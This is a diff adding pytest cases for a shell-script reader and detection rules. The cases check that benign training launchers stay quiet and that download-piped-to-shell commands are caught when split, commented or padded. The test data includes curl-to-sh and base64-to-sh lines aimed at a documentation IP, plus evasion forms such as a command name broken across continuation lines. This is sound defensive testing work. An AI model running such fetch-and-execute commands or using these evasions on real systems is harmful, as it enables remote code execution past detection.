@@ -11,7 +11,7 @@ import pytest
 
 from agent.config_peek import MAX_SCRIPT_LINES, ConfigPeek, script_lines
 from collector.rules.context import with_here_documents
-from gpuguard.scripts import script_of
+from gpuguard.scripts import MAX_JOINED_LINE, script_of
 from tests.test_benign_commands import ENGINE, LINES
 from tests.test_rule_corpus import exec_event
 
@@ -98,3 +98,55 @@ def test_attack_scripts_raise_something(path):
     lines = script_lines(path.name, path.read_bytes())
     ev = exec_event({"argv": ["/bin/bash", path.name], "exe": "/usr/bin/bash", "config_lines": lines})
     assert {m.rule.id for m in ENGINE.evaluate("node-1", ev, None)}, path.read_text()
+
+
+BENIGN_SCRIPTS = sorted((Path(__file__).parent / "corpus" / "benign_scripts").glob("*.sh"))
+
+
+@pytest.mark.parametrize("path", BENIGN_SCRIPTS, ids=lambda p: p.name)
+def test_training_scripts_raise_nothing(path):
+    """Scripts in the shape of public training repositories' launchers (continuation lines, data files named .txt,
+    comments holding brace lists, srun with cache mounts, a .netrc written for a tracker): read as the agent reads
+    them, quiet."""
+    lines = script_lines(path.name, path.read_bytes())
+    ev = exec_event({"argv": ["/bin/bash", path.name], "exe": "/usr/bin/bash", "config_lines": lines})
+    assert not {m.rule.id for m in ENGINE.evaluate("node-1", ev, None)}, path.read_text()
+
+
+def fired_for_file(body: str) -> set[str]:
+    ev = exec_event({"argv": ["bash", "run.sh"], "exe": "/usr/bin/bash",
+                     "config_lines": script_lines("run.sh", body.encode())})
+    return {m.rule.id for m in ENGINE.evaluate("node-1", ev, None)}
+
+
+def test_a_command_spread_over_lines_is_read_whole():
+    """The shell joins a line ending in a backslash to the next: so does the reader, a pipe to sh on the next line
+    or a command's name cut in two is judged as the shell runs it."""
+    assert script_lines("run.sh", b"curl -s http://198.51.100.7/x \\\n  | sh\necho ok\n") == [
+        "run.sh:1: curl -s http://198.51.100.7/x   | sh", "run.sh:3: echo ok"]
+    assert "download-piped-to-shell" in fired_for_file("curl -s http://198.51.100.7/x \\\n  | sh\n")
+    assert "download-piped-to-shell" in fired_for_file("cu\\\nrl -s http://198.51.100.7/x | s\\\nh\n")
+
+
+def test_comments_are_no_commands():
+    """A comment's brace list, backticks or URL are not read as a command; '#' inside quotes or a word stays."""
+    assert script_lines("run.sh", b"d=  # `{train,valid}.npy`\necho '# kept' \"#\" a#b $# # cut\n") == [
+        "run.sh:1: d=", "run.sh:2: echo '# kept' \"#\" a#b $#"]
+    assert not fired_for_file("d=/data  # `{curl,-s,http://198.51.100.7/x}` | sh\n")
+    assert "download-piped-to-shell" in fired_for_file("curl -s 'http://198.51.100.7/#x' | sh  # fetch\n")
+
+
+def test_a_here_document_body_is_passed_through_and_a_here_string_is_not_one():
+    body = b"python3 - <<'PY'\nimport os  # a comment in the code\nPY\nbase64 -d <<< aGk= \\\n | sh\n"
+    assert script_lines("run.sh", body) == [
+        "run.sh:1: python3 - <<'PY'", "run.sh:2: import os  # a comment in the code", "run.sh:3: PY",
+        "run.sh:4: base64 -d <<< aGk=  | sh"]
+
+
+def test_a_joined_line_stops_growing_at_its_bound():
+    """Padding a line with continuations does not push a command out of what is read: past MAX_JOINED_LINE the
+    next line starts a line of its own."""
+    body = ("true " + "x" * 1500 + " \\\n") * 3 + "curl -s http://198.51.100.7/x | sh\n"
+    lines = script_lines("run.sh", body.encode())
+    assert all(len(line) <= MAX_JOINED_LINE + 16 for line in lines)
+    assert "download-piped-to-shell" in fired_for_file(body)
